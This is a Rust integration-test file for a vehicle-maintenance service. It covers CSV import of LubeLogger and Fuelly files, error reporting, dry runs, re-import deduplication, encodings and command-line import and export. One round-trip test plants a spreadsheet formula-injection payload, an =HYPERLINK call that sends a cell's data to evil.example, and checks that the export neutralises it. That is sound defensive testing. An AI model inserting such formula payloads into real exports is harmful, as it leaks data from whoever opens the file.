//! CSV import and export (issue 14, item 5), black-box over HTTP with real-looking LubeLogger and Fuelly
//! files written here: bad rows reported by line and column, a dry run that records nothing, re-import
//! adding nothing, fuel rows recorded as fuel events, and the export → import round trip (a fill-up included).

use serde_json::{Value, json};
use vwc::testing::TestApp;
use vwc_auth::Role;
use vwc_testkit::{json as body, vin};

use super::common;
use common::{get, post, spawn_with_vehicle, vwc, vwc_output};

/// LubeLogger's service-record export (Date, Odometer, Description, Notes, Cost; US dates), three bad rows.
const SERVICE_RECORDS: &str = "Date,Odometer,Description,Notes,Cost\n\
1/15/2025,30120,Oil Change,\"Synthetic 0W-20, new filter\",59.99\n\
4/20/2025,33010,Tire Rotation,,25.00\n\
7/02/2025,\"35,500\",Oil change and tire rotation,,84.50\n\
13/45/2025,36000,Oil Change,,40.00\n\
9/1/2025,abc,Oil Change,,40.00\n\
10/1/2025,38000,Detailing,,150.00\n\
11/1/2025,39000,Cabin air filter,Dealer price,\"$1,234.00\"\n";

async fn import(
    app: &TestApp,
    token: &str,
    vehicle: &str,
    query: &str,
    csv: &str,
) -> (u16, String, Value) {
    import_bytes(app, token, vehicle, query, csv.as_bytes().to_vec()).await
}

/// [`import`] of a file's bytes as they are (another encoding than UTF-8).
async fn import_bytes(
    app: &TestApp,
    token: &str,
    vehicle: &str,
    query: &str,
    file: Vec<u8>,
) -> (u16, String, Value) {
    body(
        app.http
            .post(app.url(&format!("/v1/vehicles/{vehicle}/imports{query}")))
            .bearer_auth(token)
            .header("content-type", "text/csv")
            .body(file)
            .send()
            .await
            .unwrap(),
    )
    .await
}

async fn events(app: &TestApp, token: &str, vehicle: &str) -> Vec<Value> {
    let mut items = app
        .get_ok(token, &format!("/v1/vehicles/{vehicle}/export?format=json"))
        .await["events"]
        .as_array()
        .unwrap()
        .clone();
    for e in &mut items {
        let o = e.as_object_mut().unwrap();
        for k in ["id", "vehicleId", "recordedAt", "source", "orgId"] {
            o.remove(k);
        }
    }
    items
}

fn fields(report: &Value) -> Vec<(u64, String)> {
    report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["row"].as_u64().unwrap(),
                e["field"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[tokio::test]
async fn a_lubelogger_service_file_imports_reports_bad_rows_and_a_second_import_adds_nothing() {
    let (app, token, vehicle) = spawn_with_vehicle(&[Role::Owner], 1).await;

    let (status, _, dry) = import(&app, &token, &vehicle, "?dryRun=true", SERVICE_RECORDS).await;
    assert_eq!(status, 200, "{dry}");
    assert_eq!(dry["format"], "lubelogger_records");
    assert_eq!(
        (dry["dryRun"].as_bool(), dry["imported"].as_u64()),
        (Some(true), Some(4))
    );
    let expected = vec![
        (5, "Date".to_string()),
        (6, "Odometer".to_string()),
        (7, "Description".to_string()),
    ];
    assert_eq!(fields(&dry), expected, "{dry}");
    app.settle().await;
    assert!(
        events(&app, &token, &vehicle).await.is_empty(),
        "a dry run records nothing"
    );

    let (status, _, report) = import(&app, &token, &vehicle, "", SERVICE_RECORDS).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(
        (report["imported"].as_u64(), report["skipped"].as_u64()),
        (Some(4), Some(0))
    );
    assert_eq!(fields(&report), expected);
    assert!(
        report["errors"][2]["message"]
            .as_str()
            .unwrap()
            .contains("Detailing")
    );
    let timeline = app.timeline_of_len(&token, &vehicle, 4).await;
    let first = timeline.last().unwrap();
    assert_eq!(first["kind"], "maintenance");
    assert_eq!(first["title"], "Oil Change");
    assert_eq!(first["odometer"], 30120);
    assert_eq!(
        (first["costCents"].as_u64(), first["currency"].as_str()),
        (Some(5999), Some("USD"))
    );
    assert_eq!(first["notes"], "Synthetic 0W-20, new filter");
    assert_eq!(first["details"]["tasks"], json!(["oil_change"]));
    assert_eq!(first["occurredAt"], "2025-01-15T12:00:00Z");
    let both = timeline.iter().find(|e| e["odometer"] == 35500).unwrap();
    assert_eq!(
        both["details"]["tasks"],
        json!(["oil_change", "tire_rotation"])
    );
    let cabin = &timeline[0];
    assert_eq!(cabin["costCents"], 123400);

    let (status, _, again) = import(&app, &token, &vehicle, "", SERVICE_RECORDS).await;
    assert_eq!(status, 200);
    assert_eq!(
        (again["imported"].as_u64(), again["skipped"].as_u64()),
        (Some(0), Some(4))
    );
    app.settle().await;
    app.timeline_of_len_at_most(&token, &vehicle, 4).await;
    // The same file into another vehicle of the organisation records its rows there (its rows were once
    // taken for replays of the first vehicle's and skipped, leaving the second vehicle empty), and a second
    // import there adds nothing either.
    let other = app.register(&token, &vin(2)).await;
    let (_, _, there) = import(&app, &token, &other, "", SERVICE_RECORDS).await;
    assert_eq!(
        (there["imported"].as_u64(), there["skipped"].as_u64()),
        (Some(4), Some(0)),
        "{there}"
    );
    let (_, _, there) = import(&app, &token, &other, "", SERVICE_RECORDS).await;
    assert_eq!(
        (there["imported"].as_u64(), there["skipped"].as_u64()),
        (Some(0), Some(4)),
        "{there}"
    );
    app.timeline_of_len(&token, &other, 4).await;
    app.settle().await;
    app.timeline_of_len_at_most(&token, &other, 4).await;
    app.timeline_of_len_at_most(&token, &vehicle, 4).await;
    // Repairs from LubeLogger's repair file: the same columns with kind=repair.
    let repairs =
        "Date,Odometer,Description,Notes,Cost\n2025-08-03,36100,Replaced alternator,,612.40\n";
    let (_, _, r) = import(&app, &token, &vehicle, "?kind=repair", repairs).await;
    assert_eq!(r["imported"], 1, "{r}");
    app.timeline_of_len(&token, &vehicle, 5).await;
    app.stop().await;
}

/// Probe p44 L1: LubeLogger's `Tags` are the user's labels. A tag naming a task is one; `warranty` and `diy`
/// used to become task codes, each starting a maintenance item of its own. They are kept in the notes.
#[tokio::test]
async fn lubelogger_tags_that_name_no_task_are_kept_in_the_notes_and_start_no_schedule() {
    let (app, token, vehicle) = spawn_with_vehicle(&[Role::Owner], 3).await;
    let file = "Date,Odometer,Description,Notes,Cost,Tags\n\
2025-05-01,30000,Dealer service,Free under warranty,0.00,warranty Tire_Rotation diy\n\
2025-06-01,30900,Wash,,12.00,diy\n";
    let (status, _, report) = import(&app, &token, &vehicle, "", file).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["imported"], 1, "{report}");
    assert_eq!(
        fields(&report),
        [(3, "Description".to_string())],
        "a row whose tags name no task names none: {report}"
    );
    let timeline = app.timeline_of_len(&token, &vehicle, 1).await;
    assert_eq!(timeline[0]["details"]["tasks"], json!(["tire_rotation"]));
    assert_eq!(
        timeline[0]["notes"],
        "Free under warranty\nTags: warranty diy"
    );
    app.settle().await;
    let maintenance = app
        .get_ok(&token, &format!("/v1/vehicles/{vehicle}/maintenance"))
        .await;
    let tasks: Vec<&str> = maintenance["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["task"].as_str().unwrap())
        .collect();
    assert!(tasks.contains(&"tire_rotation"), "{tasks:?}");
    assert!(
        !tasks.iter().any(|t| ["warranty", "diy"].contains(t)),
        "labels start no schedule: {tasks:?}"
    );
    // A repair's tags are all kept: a repair has no tasks.
    let repair = "Date,Odometer,Description,Notes,Cost,Tags\n2025-07-01,31000,Alternator,,400.00,oil warranty\n";
    let (_, _, r) = import(&app, &token, &vehicle, "?kind=repair", repair).await;
    assert_eq!(r["imported"], 1, "{r}");
    let timeline = app.timeline_of_len(&token, &vehicle, 2).await;
    assert_eq!(timeline[0]["notes"], "Tags: oil warranty");
    app.stop().await;
}

/// Probe p44 M6 for files: a dropped digit in one row of a history was recorded without a word, and the
/// schedule and the valuation then left it out. The row is still recorded; the report's `warnings` name it
/// (and only it: not the earlier rows it is lower than), against the vehicle's own records too.
#[tokio::test]
async fn an_imported_reading_below_an_earlier_one_is_recorded_and_named_in_the_warnings() {
    let (app, token, vehicle) = spawn_with_vehicle(&[Role::Owner], 4).await;
    let (status, _, held) = common::post(
        &app,
        &token,
        &format!("/v1/vehicles/{vehicle}/events"),
        &json!({"kind": "odometer_reading", "occurredAt": "2025-06-01T12:00:00Z", "odometer": 34_000}),
    )
    .await;
    assert_eq!(status, 201, "{held}");
    let file = "Date,Odometer,Notes\n2025-02-01,30000,\n2025-03-01,3100,typo\n2025-04-01,31000,\n\
2025-07-01,33500,\n2025-08-01,abc,\n";
    let (status, _, dry) = import(&app, &token, &vehicle, "?dryRun=true", file).await;
    assert_eq!(status, 200, "{dry}");
    let (status, _, report) = import(&app, &token, &vehicle, "", file).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["imported"], 4, "{report}");
    assert_eq!(fields(&report), [(6, "Odometer".to_string())], "{report}");
    assert_eq!(dry["warnings"], report["warnings"], "a dry run warns alike");
    let warnings: Vec<(u64, String)> = report["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| {
            assert_eq!(w["field"], "odometer");
            (
                w["row"].as_u64().unwrap(),
                w["message"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(warnings.len(), 2, "{report}");
    assert_eq!(warnings[0].0, 3);
    assert!(
        warnings[0]
            .1
            .starts_with("3,100 mi is lower than the 30,000 mi recorded on 2025-02-01"),
        "{warnings:?}"
    );
    // Below the vehicle's own reading of 2025-06-01.
    assert_eq!(warnings[1].0, 5);
    assert!(
        warnings[1]
            .1
            .starts_with("33,500 mi is lower than the 34,000 mi recorded on 2025-06-01"),
        "{warnings:?}"
    );
    app.timeline_of_len(&token, &vehicle, 5).await;
    // A file that fits warns of nothing (an empty list).
    let fine = "Date,Odometer,Notes\n2025-09-01,35000,\n";
    let (_, _, report) = import(&app, &token, &vehicle, "", fine).await;
    assert_eq!(report["warnings"], json!([]), "{report}");
    app.stop().await;
}

#[tokio::test]
async fn odometer_files_import_and_fuel_rows_from_lubelogger_and_fuelly_become_fuel_events() {
    let (app, token, vehicle) = spawn_with_vehicle(&[Role::Owner], 2).await;
    let odometer = "Date,Odometer,Notes\n2025-02-01,31000,\n2025-03-01,32050,Road trip\n";
    let (_, _, r) = import(&app, &token, &vehicle, "", odometer).await;
    assert_eq!(
        (r["format"].as_str(), r["imported"].as_u64()),
        (Some("lubelogger_odometer"), Some(2))
    );
    // LubeLogger: two full fills and a row whose volume is not a number (line 4, reported).
    // 31210 → 31530 = 320 mi on 10.9 gal = 29.36 mpg; 3800 ¢ / 320 mi = 11.88 ¢/mi.
    let gas = "Date,Odometer,FuelConsumed,Cost,FuelEconomy,IsFillToFull,MissedFuelUp,Notes\n\
2/3/2025,31210,11.2,39.10,27.5,True,False,\n2/17/2025,31530,10.9,38.00,29.4,True,False,\n\
2/20/2025,31600,lots,5.00,0,False,False,\n";
    let (status, _, r) = import(&app, &token, &vehicle, "", gas).await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(
        (r["format"].as_str(), r["imported"].as_u64()),
        (Some("lubelogger_fuel"), Some(2))
    );
    assert_eq!(
        r["errors"],
        json!([{"row": 4, "field": "FuelConsumed", "message": "\"lots\" is not a number like 11.2"}])
    );
    app.timeline_of_len(&token, &vehicle, 4).await;
    let fuel = app
        .get_ok(&token, &format!("/v1/vehicles/{vehicle}/overview"))
        .await["fuel"]
        .clone();
    assert_eq!(
        (fuel["average"].as_f64(), fuel["fillUps"].as_u64()),
        (Some(29.36), Some(2)),
        "{fuel}"
    );
    assert_eq!(fuel["costs"][0]["perDistanceCents"], 11.88);
    // Again: nothing new.
    let (_, _, again) = import(&app, &token, &vehicle, "", gas).await;
    assert_eq!(
        (again["imported"].as_u64(), again["skipped"].as_u64()),
        (Some(0), Some(2))
    );

    // Fuelly (another vehicle): `miles` since the previous fill, `price` per gallon, no odometer.
    // Second fill: 320.5 mi on 10.9 gal = 29.40 mpg; 10.9 × 3.49 = 38.04 USD; 3804 ¢ / 320.5 = 11.87 ¢/mi.
    let fuelly_vehicle = app.register(&token, &vin(5)).await;
    let fuelly = "car_name,model,carid,fuelup_date,mpg,miles,gallons,price,city_percentage,notes\n\
Blue,RAV4,1,2025-02-03,27.5,308.0,11.2,3.49,50,\n\
Blue,RAV4,1,2025-02-17,29.4,320.5,10.9,3.49,50,Highway\n\
Blue,RAV4,1,2025-02-19,0,10,,3.49,50,\n";
    let (status, _, r) = import(&app, &token, &fuelly_vehicle, "", fuelly).await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(
        (r["format"].as_str(), r["imported"].as_u64()),
        (Some("fuelly"), Some(2))
    );
    assert_eq!(r["errors"][0]["row"], 4, "{r}");
    assert_eq!(r["errors"][0]["field"], "gallons");
    let events = app.timeline_of_len(&token, &fuelly_vehicle, 2).await;
    assert_eq!(events[0]["costCents"], 3804);
    assert_eq!(events[0]["details"]["tripDistance"], 320.5);
    assert_eq!(events[0]["notes"], "Highway");
    let fuel = app
        .get_ok(&token, &format!("/v1/vehicles/{fuelly_vehicle}/overview"))
        .await["fuel"]
        .clone();
    assert_eq!(fuel["average"], 29.4, "{fuel}");
    assert_eq!(fuel["costs"][0]["perDistanceCents"], 11.87);
    app.stop().await;
}

#[tokio::test]
async fn an_export_imported_into_a_new_vehicle_reproduces_the_history() {
    let (app, token, original) = spawn_with_vehicle(&[Role::Owner], 3).await;
    let other = app.token("org_b", &[Role::Owner]);
    for event in [
        json!({"kind": "acquisition", "occurredAt": "2024-05-01T10:00:00Z", "odometer": 28410,
            "costCents": 2749000, "currency": "USD", "title": "Bought, certified pre-owned",
            "vendor": {"name": "Lakeside Toyota"},
            "details": {"priceCents": 2749000, "condition": "used", "seller": "Lakeside Toyota"}}),
        json!({"kind": "maintenance", "occurredAt": "2024-08-01T10:00:00Z", "odometer": 31000,
            "costCents": 8999, "currency": "USD", "title": "Oil, filter; \"synthetic\"",
            "notes": "Line one,\nline two", "details": {"tasks": ["oil_change", "tire_rotation"]}}),
        json!({"kind": "repair", "occurredAt": "2025-01-10T10:00:00Z", "odometer": 36000,
            "costCents": 61240, "currency": "EUR", "title": "Alternator", "notes": "  kept as written\t",
            "details": {"system": "electrical", "parts": ["Alternator", "Belt"], "warranty": true}}),
        json!({"kind": "odometer_reading", "occurredAt": "2025-03-01T10:00:00Z", "odometer": 38000}),
        json!({"kind": "collision", "occurredAt": "2025-04-01T10:00:00Z", "title": "Parking dent",
            "details": {"severity": "minor", "structural": false}}),
        json!({"kind": "fuel", "occurredAt": "2025-04-02T10:00:00Z", "odometer": 38400,
            "costCents": 5230, "currency": "USD", "vendor": {"name": "Shell"},
            "details": {"volume": 12.345, "volumeUnit": "gal", "fullTank": false, "station": "Shell, Main St"}}),
        // Text a spreadsheet would run as formulas (a dealer's webhook can send such a title).
        json!({"kind": "repair", "occurredAt": "2025-05-01T10:00:00Z", "costCents": 100, "currency": "USD",
            "title": "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Invoice\")", "notes": "@SUM(1+1)",
            "vendor": {"name": "+1-555-0100"}}),
    ] {
        let (status, _, answer) = post(
            &app,
            &token,
            &format!("/v1/vehicles/{original}/events"),
            &event,
        )
        .await;
        assert_eq!(status, 201, "{answer}");
    }
    app.timeline_of_len(&token, &original, 7).await;
    let response = app
        .get(
            &token,
            &format!("/v1/vehicles/{original}/export?format=csv"),
        )
        .await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    let csv = response.text().await.unwrap();
    assert!(
        csv.starts_with(
            "id,occurredAt,kind,title,odometer,costCents,currency,vendor,notes,details"
        )
    );

    // Formula-like text goes out behind a `'` (a spreadsheet shows it and runs nothing); the import takes
    // the `'` off again (the copy's events equal the original's, below).
    for guarded in [
        "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Invoice\"\")\"",
        ",'@SUM(1+1),",
        ",'+1-555-0100,",
    ] {
        assert!(csv.contains(guarded), "{guarded} not in {csv}");
    }
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",@SUM"),
        "{csv}"
    );

    let copy = app.register(&token, &vin(4)).await;
    let (status, _, report) = import(&app, &token, &copy, "", &csv).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(
        (report["format"].as_str(), report["imported"].as_u64()),
        (Some("vwc"), Some(7))
    );
    assert_eq!(report["errors"], json!([]));
    app.timeline_of_len(&token, &copy, 7).await;
    assert_eq!(
        events(&app, &token, &copy).await,
        events(&app, &token, &original).await
    );
    // The copy's export imports again as nothing new.
    let (_, _, again) = import(&app, &token, &copy, "", &csv).await;
    assert_eq!(
        (again["imported"].as_u64(), again["skipped"].as_u64()),
        (Some(0), Some(7))
    );

    // The original's own export imported back into it: every record is there already (probe p44: each
    // was recorded a second time under another id), as a dry run says too.
    for query in ["?dryRun=true", ""] {
        let (status, _, back) = import(&app, &token, &original, query, &csv).await;
        assert_eq!(status, 200, "{back}");
        assert_eq!(
            (back["imported"].as_u64(), back["skipped"].as_u64()),
            (Some(0), Some(7)),
            "{query} {back}"
        );
    }
    app.settle().await;
    app.timeline_of_len_at_most(&token, &original, 7).await;
    // Each row names the vehicle's unit.
    assert!(
        csv.lines().next().unwrap().ends_with(",odometerUnit"),
        "{csv}"
    );
    assert_eq!(csv.matches("Z,mi\n").count(), 7, "{csv}");

    // Another organisation: 404 for export and import; bad input changes nothing.
    let (status, _, _) = get(&app, &other, &format!("/v1/vehicles/{original}/export")).await;
    assert_eq!(status, 404);
    let (status, ct, _) = import(&app, &other, &original, "", &csv).await;
    assert_eq!((status, ct.as_str()), (404, "application/problem+json"));
    for (query, content_type, text, expected) in [
        ("", "application/json", csv.as_str(), 415),
        ("", "text/csv", "just,some,columns\n1,2,3\n", 422),
        ("?kind=collision", "text/csv", SERVICE_RECORDS, 422),
        ("?dryRun=maybe", "text/csv", SERVICE_RECORDS, 422),
    ] {
        let (status, ct, problem) = body(
            app.http
                .post(app.url(&format!("/v1/vehicles/{original}/imports{query}")))
                .bearer_auth(&token)
                .header("content-type", content_type)
                .body(text.to_string())
                .send()
                .await
                .unwrap(),
        )
        .await;
        assert_eq!(
            (status, ct.as_str()),
            (expected, "application/problem+json"),
            "{query} {problem}"
        );
    }
    let as_xml = format!("/v1/vehicles/{original}/export?format=xml");
    assert_eq!(get(&app, &token, &as_xml).await.0, 422);
    let viewer = app.token("org_a", &[Role::Viewer]);
    let (status, _, _) = import(&app, &viewer, &original, "", &csv).await;
    assert_eq!(status, 403);
    app.settle().await;
    app.timeline_of_len_at_most(&token, &original, 7).await;
    app.stop().await;
}

/// A bad import option refuses the request up front, once, naming it: an unknown currency is not reported
/// on each row with a cost, and nothing is recorded, dry run or not.
#[tokio::test]
async fn an_unknown_currency_refuses_the_import_once_naming_the_parameter() {
    let (app, token, vehicle) = spawn_with_vehicle(&[Role::Owner], 6).await;
    for query in [
        "?currency=XXX",
        "?currency=XXX&dryRun=true",
        "?currency=usd1&kind=fuel",
    ] {
        let (status, ct, problem) = import(&app, &token, &vehicle, query, SERVICE_RECORDS).await;
        assert_eq!(
            (status, ct.as_str()),
            (422, "application/problem+json"),
            "{query} {problem}"
        );
        let errors = problem["errors"].as_array().unwrap();
        let currency: Vec<_> = errors.iter().filter(|e| e["field"] == "currency").collect();
        assert_eq!(currency.len(), 1, "{query} {problem}");
        assert!(
            currency[0]["message"]
                .as_str()
                .unwrap()
                .contains("is not an ISO 4217 currency code"),
            "{problem}"
        );
        assert!(errors.iter().all(|e| e.get("row").is_none()), "{problem}");
    }
    let (_, _, problem) = import(&app, &token, &vehicle, "?currency=usd1&kind=fuel", "").await;
    assert_eq!(
        common::pluck(&problem["errors"], "field"),
        ["kind", "currency"]
    );
    // The same file in a known currency, lower case as sent: the good rows are recorded.
    let (status, _, report) =
        import(&app, &token, &vehicle, "?currency=eur", SERVICE_RECORDS).await;
    assert_eq!(status, 200, "{report}");
    app.settle().await;
    assert_eq!(
        common::stored_events(&app, "org_a", &vehicle).await,
        report["imported"].as_u64().unwrap()
    );
    app.stop().await;
}

/// A LubeLogger export as a spreadsheet in Germany saves it: semicolons, dotted day-first dates, decimal
/// commas, umlauts.
const SEMICOLON_RECORDS: &str = "Date;Odometer;Description;Notes;Cost\r\n\
15.01.2025;30120;Oil Change;Werkstatt Müller, 5W-30;59,99\r\n\
20.04.2025;33010;Tire Rotation;;1.025,00\r\n";

#[tokio::test]
async fn a_utf16_semicolon_file_imports_and_one_in_a_code_page_is_refused_naming_its_line() {
    let (app, token, vehicle) = spawn_with_vehicle(&[Role::Owner], 7).await;
    // Windows-1252, as "CSV (semicolon delimited)" saves it: refused whole, naming the line, nothing recorded.
    let code_page: Vec<u8> = SEMICOLON_RECORDS
        .chars()
        .map(|c| if c == 'ü' { 0xFC } else { c as u8 })
        .collect();
    let (status, ct, problem) =
        import_bytes(&app, &token, &vehicle, "?currency=EUR", code_page).await;
    assert_eq!(
        (status, ct.as_str()),
        (422, "application/problem+json"),
        "{problem}"
    );
    assert_eq!(problem["errors"][0]["field"], "body", "{problem}");
    let message = problem["errors"][0]["message"].as_str().unwrap();
    assert!(
        message.starts_with("line 2 is not UTF-8 text (byte 0xFC)"),
        "{message}"
    );
    app.settle().await;
    assert_eq!(common::stored_events(&app, "org_a", &vehicle).await, 0);
    // The same file as Excel's "Unicode text": UTF-16 with its byte-order mark.
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(SEMICOLON_RECORDS.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let (status, _, report) = import_bytes(&app, &token, &vehicle, "?currency=EUR", utf16).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(
        (report["imported"].as_u64(), fields(&report)),
        (Some(2), vec![]),
        "{report}"
    );
    app.settle().await;
    let got = events(&app, &token, &vehicle).await;
    let pick = |e: &Value| {
        (
            e["occurredAt"].as_str().unwrap()[..10].to_string(),
            e["odometer"].clone(),
            e["costCents"].clone(),
            e["notes"].clone(),
        )
    };
    assert_eq!(
        got.iter().map(pick).collect::<Vec<_>>(),
        [
            (
                "2025-01-15".to_string(),
                json!(30120),
                json!(5999),
                json!("Werkstatt Müller, 5W-30")
            ),
            (
                "2025-04-20".to_string(),
                json!(33010),
                json!(102500),
                Value::Null
            ),
        ]
    );
    // A file over the body limit: 413, saying how to import it (smaller files, or `vwc import`).
    let big = format!(
        "Date,Odometer,Description,Notes,Cost\n{}",
        "2025-01-15,30120,Oil Change,,59.99\n".repeat(9_000)
    );
    let (status, ct, problem) = import(&app, &token, &vehicle, "", &big).await;
    assert_eq!(
        (status, ct.as_str()),
        (413, "application/problem+json"),
        "{problem}"
    );
    let detail = problem["detail"].as_str().unwrap();
    assert!(
        detail.contains(&format!("vwc import --org org_a --vehicle {vehicle} FILE")),
        "{detail}"
    );
    // The vehicle's JSON export given back to the import: refused, pointing to the CSV export.
    let export = app
        .get_ok(
            &token,
            &format!("/v1/vehicles/{vehicle}/export?format=json"),
        )
        .await
        .to_string();
    let (status, _, problem) = import(&app, &token, &vehicle, "", &export).await;
    assert_eq!(status, 422, "{problem}");
    assert!(
        problem["detail"]
            .as_str()
            .unwrap_or_default()
            .contains("format=csv"),
        "{problem}"
    );
    app.stop().await;
}

#[tokio::test]
async fn vwc_vehicles_lists_an_organisations_vehicles_with_the_ids_import_takes() {
    let (app, token, first) = spawn_with_vehicle(&[Role::Owner], 8).await;
    let second = app.register(&token, &vin(9)).await;
    app.record_odometer(&token, &second, 1, 41_250).await;
    let dir = app.stop().await;
    let data = dir.path().to_str().unwrap();
    let table = vwc(["vehicles", "--data-dir", data, "--org", "org_a"]);
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.len(), 3, "{table}");
    assert!(
        lines[0].starts_with("ID") && lines[0].contains("VIN"),
        "{table}"
    );
    // By id (registration order), each with its VIN, name, status, odometer and record count.
    for (line, id, n, odometer) in [
        (lines[1], &first, 8, "—"),
        (lines[2], &second, 9, "41250 mi"),
    ] {
        let cells: Vec<&str> = line
            .split("  ")
            .map(str::trim)
            .filter(|c| !c.is_empty())
            .collect();
        assert_eq!(cells[0], id.as_str(), "{table}");
        assert_eq!(cells[1], vin(n), "{table}");
        assert_eq!(cells[2], "2020 Honda Accord", "{table}");
        assert_eq!(cells[3], "active", "{table}");
        assert_eq!(cells[4], odometer, "{table}");
    }
    let json: Value = serde_json::from_str(&vwc([
        "vehicles",
        "--data-dir",
        data,
        "--org",
        "org_a",
        "--json",
    ]))
    .unwrap();
    assert_eq!(common::pluck(&json, "id"), [first.clone(), second.clone()]);
    assert_eq!(json[1]["eventCount"], 1, "{json}");
    // Another organisation's vehicles are not listed; a data dir that is not one is refused.
    let other = vwc_output(["vehicles", "--data-dir", data, "--org", "org_b"]);
    assert!(other.status.success());
    assert!(other.stdout.is_empty());
    assert!(String::from_utf8_lossy(&other.stderr).contains("0 vehicles in organisation org_b"));
    let missing = dir.path().join("nope");
    let refused = vwc_output([
        "vehicles",
        "--data-dir",
        missing.to_str().unwrap(),
        "--org",
        "org_a",
    ]);
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("does not exist"));
}

#[tokio::test]
async fn vwc_import_and_vwc_export_work_on_a_data_dir_and_a_second_import_adds_nothing() {
    let (app, token, vehicle) = spawn_with_vehicle(&[Role::Owner], 5).await;
    let dir = app.stop().await;
    let data = dir.path().to_str().unwrap().to_string();
    let file = dir.path().join("service.csv");
    std::fs::write(&file, SERVICE_RECORDS).unwrap();
    let file = file.to_str().unwrap().to_string();
    let (data_dir, vehicle_id, file_path) = (data.as_str(), vehicle.as_str(), file.as_str());
    let import_args = move |extra: &[&'static str]| {
        let mut args = vec![
            "import",
            "--data-dir",
            data_dir,
            "--org",
            "org_a",
            "--vehicle",
            vehicle_id,
            file_path,
        ];
        args.extend_from_slice(extra);
        args
    };
    let run_import = |extra: &[&'static str]| {
        let args = import_args(extra);
        // The file has three bad rows: the report lists them and the exit status says some were refused.
        let out = vwc_output(&args);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).expect("the report")
    };
    let dry = run_import(&["--dry-run"]);
    assert_eq!(
        (
            dry["imported"].as_u64(),
            dry["errors"].as_array().map(Vec::len)
        ),
        (Some(4), Some(3))
    );
    // The row naming no task is told of the command's option, not of the API's query parameter.
    let hints: Vec<&str> = dry["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["message"].as_str())
        .filter(|m| m.contains("no maintenance task"))
        .collect();
    assert_eq!(hints.len(), 1, "{dry}");
    assert!(
        hints[0].ends_with("import the file with --kind repair") && !hints[0].contains("kind="),
        "{}",
        hints[0]
    );
    // An unknown currency is refused once, before the file is read, naming the option.
    let args = import_args(&["--currency", "XXX"]);
    let out = vwc_output(&args);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("--currency") && stderr.contains("is not an ISO 4217 currency code"),
        "{stderr}"
    );
    assert!(
        out.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let report = run_import(&[]);
    assert_eq!(
        (report["imported"].as_u64(), report["skipped"].as_u64()),
        (Some(4), Some(0))
    );
    let again = run_import(&[]);
    assert_eq!(
        (again["imported"].as_u64(), again["skipped"].as_u64()),
        (Some(0), Some(4))
    );
    let export = |org: &'static str| {
        [
            "export",
            "--data-dir",
            &data,
            "--org",
            org,
            "--vehicle",
            &vehicle,
        ]
    };
    let csv = vwc(export("org_a"));
    assert_eq!(csv.lines().count(), 5, "{csv}");
    assert!(csv.lines().nth(1).unwrap().contains("Oil Change"));
    // Another organisation's vehicle is not found.
    assert!(!vwc_output(export("org_b")).status.success());
    // The server sees what the CLI recorded.
    let app = TestApp::spawn_with(dir, |_| {}).await;
    app.timeline_of_len(&token, &vehicle, 4).await;
    app.stop().await;
}
